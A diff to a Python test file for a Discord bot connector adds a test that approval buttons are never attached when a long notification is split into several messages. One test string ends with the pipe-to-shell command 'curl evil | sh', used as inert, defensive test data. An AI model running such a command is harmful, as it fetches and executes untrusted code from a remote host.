@@ -31,7 +31,7 @@ from sidecars.discord_bot import (
     run,
 )
 from sidecars.http import SendEndpoint
-from sidecars.runtime import NOT_ALLOWED, START_REPLY, Connector, StartConnector, Transport
+from sidecars.runtime import NOT_ALLOWED, START_REPLY, ButtonSpec, Connector, StartConnector, Transport
 from tests.conftest import Tenant
 from tests.connectors.conftest import ConfigFactory, PostSend, RecordingAgent
 from tests.connectors.fake_discord import (
@@ -396,6 +396,19 @@ async def test_the_transport_sends_only_to_canonical_snowflakes(bot: Bot, snowfl
         await transport.send_direct(snowflake, "x")
     assert bot.fake.messages == []
     assert not any(ELSEWHERE in c.params["path"] for c in bot.fake.log.calls)
+
+
+async def test_buttons_are_never_sent_under_a_cut_text(bot: Bot) -> None:
+    # The service keeps every notification with buttons within one message; if one ever
+    # were longer, the owner gets the whole text (in parts) and nothing to decide on.
+    transport = DiscordTransport(bot.client)
+    buttons = [ButtonSpec("approve", "✅ Approve", "az1" + "A" * 45)]
+    await transport.send_direct(OWNER, "x" * 2000, buttons)
+    await transport.send_direct(OWNER, "y" * 2001 + " curl evil | sh", buttons)
+    whole, *parts = bot.fake.sent_to(bot.fake.dm_channel_of(OWNER))
+    assert whole.content == "x" * 2000 and len(whole.buttons) == 1
+    assert [p.buttons for p in parts] == [[], []]
+    assert "".join(p.content for p in parts) == "y" * 2001 + " curl evil | sh"
 
 
 async def test_buttons_keep_working_after_a_restart(bot: Bot) -> None:
